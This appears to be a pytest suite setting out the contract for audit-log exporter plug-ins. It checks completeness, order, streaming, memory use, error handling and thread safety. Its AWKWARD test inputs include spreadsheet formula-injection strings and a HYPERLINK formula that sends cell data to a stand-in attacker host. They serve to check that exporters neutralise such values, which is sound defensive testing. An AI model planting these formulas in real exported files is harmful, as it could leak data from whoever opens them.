"""What every exporter must do, as tests that a plug-in's author runs by naming one fixture and one reader.

    class TestXesExporter(ExporterSuite):
        @pytest.fixture
        def exporter(self):
            return XesExporter()

        def read(self, content):  # with somebody else's reader: one text a fact, with all that the file says of it
            return [" ".join(event.values()) for event in pm4py.read(content)]

Each test is one sentence of the contract in `egovframe.audit.interfaces.Exporter`.
"""

from __future__ import annotations

import gc
import tracemalloc
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from typing import Any, ClassVar, Final, get_args

import pytest
from pydantic import ValidationError

from egovframe.audit.interfaces import Exporter, Product
from egovframe.audit.model import Fact
from egovframe.kernel.facts import Does, Outcome
from egovframe.kernel.text import Text

HANEUL: Final = Product(city="하늘시", origin="haneul.example/log", host="desk-1.haneul.example", version="1.2.3")
"""The city whose facts the suite exports."""
AWKWARD: Final = (
    "두 줄\n둘째 줄\r\n셋째",
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"눌러 보세요")',
    "+82 2 1234 5678",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    '"; quoted, "twice""',
    'a"b\\c]d',
    "]\\",
    "'",
    "https://haneul.example/",
    "\x00\x01\x1b[31m\x7f",
    "\ufeff한글\u2028줄\u0085줄",
    "𝄞👩🏽‍💻",
    "<script>&amp;</script>",
    "0012",
    "<110>1 - - - - - - -",
    "_x0041_",
)
"""Texts that some reader takes for something else than a text."""


def a_fact(n: int = 1, **fields: Any) -> Fact:
    """Return a fact that says everything a fact can say; `fields` change it."""
    told: dict[str, Any] = {
        "n": n,
        "id": f"019ab5c0-0000-7000-8000-{n:012x}",
        "at": datetime(2026, 11, 22, 12, 4, 41, 123000, tzinfo=UTC) + timedelta(seconds=n),
        "action": "petition.read",
        "title": Text(ko="민원 열람", en="Petition read"),
        "does": "read",
        "version": 2,
        "actor_kind": "officer",
        "actor": "account:019ab5c0-1111-7000-8000-000000000001",
        "acting_for": "account:019ab5c0-1111-7000-8000-000000000002",
        "object": "petition:019ab5c0-2222-7000-8000-000000000001",
        "subjects": ("account:019ab5c0-3333-7000-8000-000000000001", "applicant:019ab5c0-3333-7000-8000-000000000002"),
        "outcome": "done",
        "reason": "asked by the court",
        "basis": "민원처리법 제18조",
        "request": "request-4711",
        "trace": "4bf92f3577b34da6a3ce929d0e0e4736",
        "details": {"count": 3, "form": "pothole"},
        "private": {
            "address": "192.0.2.7",
            "session": "019ab5c0-4444-7000-8000-000000000001",
            "agent": "Firefox on Linux",
            "why": "전화 문의에 답하려고",
            "searched": "홍길동",
        },
        "erased": ("account:019ab5c0-5555-7000-8000-000000000001",),
    }
    return Fact(**(told | fields))


EVERY_KIND: Final = tuple(
    a_fact(number, does=does, outcome=outcome)
    for number, (does, outcome) in enumerate(
        ((does, outcome) for does in get_args(Does) for outcome in get_args(Outcome)), start=1
    )
)
"""One fact of each thing that a deed does, with each outcome."""

TOLD: Final = (
    "account:019ab5c0-1111-7000-8000-000000000001",
    "account:019ab5c0-1111-7000-8000-000000000002",
    "petition:019ab5c0-2222-7000-8000-000000000001",
    "account:019ab5c0-3333-7000-8000-000000000001",
    "applicant:019ab5c0-3333-7000-8000-000000000002",
    "019ab5c0-0000-7000-8000-000000000001",
    "petition.read",
    "asked by the court",
    "민원처리법 제18조",
    "request-4711",
    "4bf92f3577b34da6a3ce929d0e0e4736",
    "pothole",
    "192.0.2.7",
    "019ab5c0-4444-7000-8000-000000000001",
    "Firefox on Linux",
    "전화 문의에 답하려고",
    "홍길동",
    "account:019ab5c0-5555-7000-8000-000000000001",
)
"""What must be found of `a_fact()` whatever the form."""


class ExporterSuite:
    """Subclass it, name it `Test…`, and give it the fixture `exporter` and the method `read`."""

    comes_whole: ClassVar[bool] = False
    """Whether the form can be written only when all facts are there."""

    @pytest.fixture
    def exporter(self) -> Exporter:
        """Return the exporter under test. Every subclass gives its own."""
        pytest.fail(f"{type(self).__name__} needs a fixture `exporter` that returns the exporter under test")

    def read(self, content: bytes) -> list[str]:
        """Return one text a fact, in order, holding all that the file says about it. Every subclass gives its own."""
        pytest.fail(f"{type(self).__name__} needs a method `read` that reads a file with somebody else's reader")

    def test_is_an_exporter_of_this_version(self, exporter: Exporter) -> None:
        """The plug-in is an Exporter and was written for this version of the interface."""
        assert isinstance(exporter, Exporter)
        assert type(exporter).version == Exporter.version

    def test_is_a_frozen_value(self, exporter: Exporter) -> None:
        """An exporter never changes: settings hold until the next start."""
        for name in type(exporter).model_fields:
            with pytest.raises(ValidationError):
                setattr(exporter, name, getattr(exporter, name))

    def test_says_what_it_writes(self, exporter: Exporter) -> None:
        """A title of its own in both languages, a media type (RFC 6838) and the ending of a file's name."""
        assert exporter.title != Exporter.title
        assert {"ko", "en"} <= set(exporter.title.as_dict())
        assert exporter.media.split(";")[0].count("/") == 1
        assert exporter.media.isascii()
        assert exporter.ending.startswith(".")
        assert "/" not in exporter.ending

    def test_every_fact_is_there_once_in_its_order(self, exporter: Exporter) -> None:
        """Of every kind and outcome: somebody else's reader finds as many as there were, each under its id."""
        texts = self.read(_whole(exporter, *EVERY_KIND))
        assert len(texts) == len(EVERY_KIND)
        for fact, text in zip(EVERY_KIND, texts, strict=True):
            assert fact.id in text

    def test_a_fact_is_told_whole(self, exporter: Exporter) -> None:
        """Who, whose data, where from, why, by what authority, details and private values: nothing is lost."""
        (text,) = self.read(_whole(exporter, a_fact()))
        assert [value for value in TOLD if value not in text] == []

    def test_what_a_fact_does_not_say_is_not_made_up(self, exporter: Exporter) -> None:
        """A fact with nothing but what it must have is exported too."""
        bare = a_fact(
            acting_for="", object="", subjects=(), reason="", basis="", request="", trace="", details={}, private={}
        )
        (text,) = self.read(_whole(exporter, bare))
        assert bare.id in text
        assert "None" not in text

    def test_no_facts_give_a_file_that_is_valid_and_empty(self, exporter: Exporter) -> None:
        """Nobody did anything: the reader finds nothing, and no fault."""
        assert self.read(_whole(exporter)) == []

    @pytest.mark.parametrize("text", AWKWARD)
    def test_whatever_a_text_holds_it_stays_a_text(self, exporter: Exporter, text: str) -> None:
        """In every place of a fact: the fact before and the fact after are where they were."""
        awkward = a_fact(
            2,
            actor=text,
            acting_for=text,
            object=text,
            subjects=(text, text),
            reason=text,
            basis=text,
            request=text,
            trace=text,
            details={"text": text},
            private=dict.fromkeys(("address", "session", "agent", "why", "other"), text),
            erased=(text,),
        )
        facts = (a_fact(1), awkward, a_fact(3))
        texts = self.read(_whole(exporter, *facts))
        assert [fact.id in found for fact, found in zip(facts, texts, strict=True)] == [True] * 3

    def test_facts_are_taken_one_at_a_time(self, exporter: Exporter) -> None:
        """The first bytes come while facts are still being taken, but for a form that comes whole."""
        taken: list[int] = []

        def facts() -> Iterator[Fact]:
            for n in range(1, 1001):
                taken.append(n)
                yield a_fact(n)

        pieces = exporter.export(facts(), product=HANEUL)
        assert taken == []
        first = next(pieces)
        assert len(taken) == (1000 if self.comes_whole else len(taken))
        assert self.comes_whole or len(taken) < 500
        assert len(self.read(first + b"".join(pieces))) == 1000

    def test_memory_does_not_grow_with_the_number_of_facts(self, exporter: Exporter) -> None:
        """Two thousand facts more, of a kilobyte and more each, need less than a megabyte more than the first."""

        def needed(count: int) -> int:
            gc.collect()
            tracemalloc.start()
            try:
                for _ in exporter.export((a_fact(n) for n in range(count)), product=HANEUL):
                    pass
                return tracemalloc.get_traced_memory()[1]
            finally:
                tracemalloc.stop()

        needed(10)  # what is loaded once
        assert needed(3000) < needed(1000) + 1_000_000  # which the garbage collector makes hundreds of thousands of

    def test_what_the_facts_raise_comes_through(self, exporter: Exporter) -> None:
        """A database that fails in the middle is an error, and no file that looks whole."""

        def facts() -> Iterator[Fact]:
            yield a_fact()
            raise ConnectionError

        with pytest.raises(ConnectionError):
            b"".join(exporter.export(facts(), product=HANEUL))

    def test_many_threads_export_at_once(self, exporter: Exporter) -> None:
        """Each gets its own facts, whole."""

        def one(at: int) -> bytes:
            return _whole(exporter, *(a_fact(n) for n in range(at, at + 50)))

        with ThreadPoolExecutor(8) as pool:
            for at, content in enumerate(pool.map(one, range(20))):
                texts = self.read(content)
                assert [a_fact(n).id in text for n, text in enumerate(texts, start=at)] == [True] * 50


def _whole(exporter: Exporter, *facts: Fact) -> bytes:
    return b"".join(exporter.export(iter(facts), product=HANEUL))
